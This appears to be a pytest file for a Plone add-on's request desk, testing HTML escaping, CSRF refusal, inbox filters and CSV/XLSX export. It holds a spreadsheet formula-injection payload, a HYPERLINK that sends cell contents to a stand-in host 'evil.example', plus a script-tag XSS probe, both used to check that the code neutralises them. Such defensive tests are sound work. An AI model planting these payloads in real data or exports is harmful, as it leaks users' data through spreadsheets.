"""The request page (history, status, notes) and the inbox list and export."""

from famiguida.desks.requests import create_request
from openpyxl import load_workbook
from plone import api
from plone.app.testing import login
from plone.app.testing import logout
from plone.protect.authenticator import createToken
from zExceptions import Forbidden
from zExceptions import Unauthorized

import csv
import io
import pytest


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


def make(desk="casa", form="cerco-casa", language="it", town="crema", **data):
    logout()
    reference = create_request(
        desk, form, language, town, data or {"message": "ciao"}, True
    )
    return reference


def view(obj, name, **form):
    request = obj.REQUEST
    request.form.clear()
    request.form.update(form)
    request.method = "GET"
    return api.content.get_view(name=name, context=obj, request=request)


def post(obj, **form):
    request = obj.REQUEST
    request.form.clear()
    request.form.update(form)
    request.method = "POST"
    request.environ["REQUEST_METHOD"] = "POST"
    page = api.content.get_view(name="view", context=obj, request=request)
    try:
        return page()
    finally:
        request.method = "GET"
        request.environ["REQUEST_METHOD"] = "GET"


def test_request_page_shows_data_escaped(desk_users):
    reference = make(message="<script>alert(1)</script>", nome="Ana")
    login(desk_users, "housing")
    obj = desk_users["sportelli"]["casa"][reference.lower()]
    html = view(obj, "view")()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)" not in html
    assert reference in html
    assert 'name="_authenticator"' in html
    assert 'value="start"' in html


def test_status_change_and_note_are_recorded(desk_users):
    reference = make()
    login(desk_users, "housing")
    obj = desk_users["sportelli"]["casa"][reference.lower()]
    token = createToken()
    post(
        obj,
        _authenticator=token,
        transition="start",
        comment="presa",
        **{"form.transition": "1"},
    )
    assert api.content.get_state(obj) == "in_progress"
    post(obj, _authenticator=token, note="Chiamata la famiglia", **{"form.note": "1"})
    status, note = obj.history[-2:]
    assert status["action"] == "status"
    assert (status["old"], status["new"]) == ("new", "in_progress")
    assert status["actor"] == "housing"
    assert status["when"].tzinfo is not None
    assert note["action"] == "note"
    assert note["text"] == "Chiamata la famiglia"
    assert note["actor"] == "housing"
    html = view(obj, "view")()
    assert "Chiamata la famiglia" in html


def test_post_without_authenticator_is_refused(desk_users):
    reference = make()
    login(desk_users, "housing")
    obj = desk_users["sportelli"]["casa"][reference.lower()]
    with pytest.raises(Forbidden):
        post(obj, transition="start", **{"form.transition": "1"})
    assert api.content.get_state(obj) == "new"


def test_inbox_filters_and_counts(desk_users):
    make(language="ar", town="crema")
    make(language="it", town="lodi", form="offri-una-casa")
    make(language="ar", town="lodi")
    login(desk_users, "housing")
    inbox = desk_users["sportelli"]["casa"]
    page = view(inbox, "richieste", language="ar")
    html = page()
    assert "famiguida-desk-list" in html
    assert "(2)" in html
    assert len(page.filters.results()) == 2
    languages = {o["value"]: o["count"] for o in page.facet("language")}
    assert languages == {"ar": 2, "it": 1}
    towns = {o["value"]: o["count"] for o in page.facet("municipality")}
    assert towns == {"crema": 1, "lodi": 1}
    page = view(inbox, "richieste", municipality="lodi", form="offri-una-casa")
    page()
    assert [b.Title for b in page.filters.results()] == [
        b.Title
        for b in page.filters.results()
        if b.getObject().form_id == "offri-una-casa"
    ]
    assert len(page.filters.results()) == 1
    # newest first
    page = view(inbox, "richieste")
    page()
    refs = [b.Title for b in page.filters.results()]
    assert refs == sorted(refs, reverse=True)
    # status filter
    page = view(inbox, "richieste", status="done")
    page()
    assert len(page.filters.results()) == 0


def test_inbox_date_range(desk_users):
    make()
    login(desk_users, "housing")
    inbox = desk_users["sportelli"]["casa"]
    page = view(inbox, "richieste", **{"from": "2000-01-01", "to": "2000-12-31"})
    page()
    assert len(page.filters.results()) == 0
    page = view(inbox, "richieste", **{"from": "2000-01-01"})
    page()
    assert len(page.filters.results()) == 1


def test_export_neutralises_formulas(desk_users):
    reference = make(message=EVIL)
    login(desk_users, "housing")
    inbox = desk_users["sportelli"]["casa"]
    obj = inbox[reference.lower()]
    obj.submitter_name = "+39 333 1234567"
    data = view(inbox, "richieste-esporta", formato="csv")()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "riferimento"
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["riferimento"] == reference
    assert row["nome"] == "'+39 333 1234567"
    assert row["dati"].startswith("message: =HYPERLINK(")
    # a cell that starts with the formula is escaped
    obj.data_json = '"' + EVIL.replace('"', '\\"') + '"'
    data = view(inbox, "richieste-esporta", formato="csv")()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert dict(zip(rows[0], rows[1], strict=True))["dati"] == "'" + EVIL
    data = view(inbox, "richieste-esporta", formato="xlsx")()
    sheet = load_workbook(io.BytesIO(data)).active
    values = [cell.value for cell in sheet[2]]
    assert "'" + EVIL in values
    assert not any(
        isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values
    )


def test_other_desks_cannot_open_the_inbox_list(desk_users):
    make()
    login(desk_users, "caregiver")
    inbox = desk_users["sportelli"]["casa"]
    with pytest.raises(Unauthorized):
        view(inbox, "richieste")()
    with pytest.raises(Unauthorized):
        view(inbox, "richieste-esporta")()


def test_housing_inbox_lists_vacant_homes(desk_users):
    make(form="offri-una-casa", address="Via Roma 1 <b>", rooms="2")
    make(desk="mediazione", form="mediatore")
    login(desk_users, "housing")
    html = view(desk_users["sportelli"]["casa"], "richieste")()
    assert "famiguida-desk-home-list" in html
    assert "Via Roma 1 &lt;b&gt;" in html
    logout()
    login(desk_users, "mediation")
    html = view(desk_users["sportelli"]["mediazione"], "richieste")()
    assert "famiguida-desk-homes" not in html


def test_inbox_links_the_desk_tools(desk_users):
    """From the inbox a desk reaches its report and the erasure pages."""
    login(desk_users, "housing")
    inbox = desk_users["sportelli"]["casa"]
    html = view(inbox, "richieste")()
    for name in ("rendiconto", "cancella-dati", "registro-cancellazioni"):
        assert f'href="{inbox.absolute_url()}/@@{name}"' in html
